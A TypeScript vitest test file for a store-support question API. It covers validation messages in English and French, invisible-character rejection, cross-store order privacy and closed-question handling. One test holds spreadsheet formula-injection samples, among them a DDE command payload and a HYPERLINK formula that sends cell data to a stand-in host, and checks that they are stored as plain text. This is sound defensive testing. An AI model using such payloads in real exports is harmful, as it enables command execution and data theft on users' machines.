import { beforeEach, expect, test } from 'vitest'
import { expectProblem, read, sending } from './ask.ts'
import { namesOf } from './calls.ts'
import { type Fetch, openTestHost, scenario, type TestHost } from './test-host.ts'

const { inQueue, inProcess } = scenario.storyStores
const ASKED = `/api/stores/${inQueue}/questions`
let subject: TestHost
let owner: Fetch
let support: Fetch

beforeEach(() => {
  subject = openTestHost()
  owner = subject.as('store-owner')
  support = subject.as('support')
})

interface Question {
  readonly id: string
  readonly messages: readonly { readonly text: string }[]
}

const asking = (text: string, headers = {}) => sending('POST', { topic: 'other', orderId: null, text }, headers)
const ask = (text: string) => read<Question>(owner, ASKED, asking(text))
const doing = (id: string, action: object) => support(`/api/support/questions/${id}/actions`, sending('POST', action))

const CAUSES: [string, string, string, string][] = [
  ['blank text', ' \n\t', 'Nothing is written here.', 'Rien n’est écrit ici.'],
  [
    '4,001 characters',
    'x'.repeat(4_001),
    'At most 4000 characters are taken.',
    'Au plus 4000 caractères sont acceptés.',
  ],
  [
    'a text direction character',
    'a \u202E b',
    'It holds marks that cannot be seen: control characters, or marks without width or of direction. Take them out.',
    'Ce texte contient des marques invisibles\u00A0: caractères de commande, marques sans largeur ou de direction. Retirez-les.',
  ],
  [
    'a zero-width character',
    'a\u200Bb',
    'It holds marks that cannot be seen: control characters, or marks without width or of direction. Take them out.',
    'Ce texte contient des marques invisibles\u00A0: caractères de commande, marques sans largeur ou de direction. Retirez-les.',
  ],
]

test.each(['reply', 'ask_back'])('a %s with a placeholder in its text is rejected', async (kind) => {
  const { id } = await ask('When?')
  await doing(id, { kind: 'claim' })
  const text = 'It is {headline}, until {next_update} and {headline}.'
  const sentIn = async (language: string) => {
    const sent = sending('POST', { kind, text }, { 'accept-language': language })
    const response = await support(`/api/support/questions/${id}/actions`, sent)
    expect(response.status).toBe(422)
    return ((await response.json()) as { errors: unknown }).errors
  }
  expect(await sentIn('en')).toEqual([
    {
      field: 'body.text',
      cause: 'The store would read {headline}, {next_update}. Write over it, or take it out.',
    },
  ])
  expect(await sentIn('fr')).toEqual([
    {
      field: 'body.text',
      cause: 'Le magasin lirait {headline}, {next_update}. Remplacez ce nom par les mots voulus, ou retirez-le.',
    },
  ])
  expect((await read<Question>(support, `/api/support/questions/${id}`)).messages).toHaveLength(1)
  // Unknown names in braces are ordinary text, and a note is read by support only.
  expect((await doing(id, { kind: 'note', text })).status).toBe(200)
  expect((await doing(id, { kind, text: 'In {braces}.' })).status).toBe(200)
})

test.each(CAUSES)('%s: the field is named with its cause, in both languages', async (_, text, en, fr) => {
  const causeIn = async (language: string) => {
    const response = await owner(ASKED, asking(text, { 'accept-language': language }))
    expect(response.status).toBe(422)
    return ((await response.json()) as { errors: unknown }).errors
  }
  expect(await causeIn('en')).toEqual([{ field: 'body.text', cause: en }])
  expect(await causeIn('fr')).toEqual([{ field: 'body.text', cause: fr }])
})

test.each([
  '=HYPERLINK("https://shop.example/?"&A1,"Open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '=cmd|’/C calc’!A0',
])('a formula is ordinary text: %s', async (text) => {
  const { id, messages } = await ask(text)
  expect(messages.map((each) => each.text)).toEqual([text])
  const shown = await read<Question>(support, `/api/support/questions/${id}`)
  expect(shown.messages.map((each) => each.text)).toEqual([text])
})

test('an order number of another store gets the same response as an unknown one', async () => {
  const other = scenario.orders.find(({ order }) => order.id === namesOf(inProcess).orderId)?.order.number ?? ''
  expect(other).toMatch(/^SO\d{9}$/)
  const answerOf = async (number: string) => {
    const { id, messages } = await ask(`Is ${number} ahead of mine?`)
    const of = await owner(ASKED)
    const own = JSON.stringify(((await of.json()) as { items: Question[] }).items.find((each) => each.id === id))
    const ids = [id, ...messages.map((each) => (each as { id?: string }).id ?? '')]
    return ids.reduce((text, each, index) => text.replaceAll(each, `id ${index}`), own).replace(number, 'SO…')
  }
  expect(await answerOf(other)).toBe(await answerOf('SO000000001'))
  // A store cannot look it up either.
  const accesses = await Promise.all([other, 'SO000000001'].map((each) => owner(`/api/support/orders/${each}`)))
  expect(accesses.map(({ status }) => status)).toEqual([403, 403])
})

test('a reply to a question that its store has closed is rejected and not stored', async () => {
  const { id } = await ask('When?')
  await doing(id, { kind: 'claim' })
  expect((await owner(`${ASKED}/${id}`, { method: 'DELETE' })).status).toBe(204)
  const before = await subject.added()
  await expectProblem(await doing(id, { kind: 'reply', text: 'On Friday.' }), 409, 'conflict')
  await expectProblem(await doing(id, { kind: 'ask_back', text: 'Which order?' }), 409, 'conflict')
  expect(await subject.added()).toEqual(before)
})
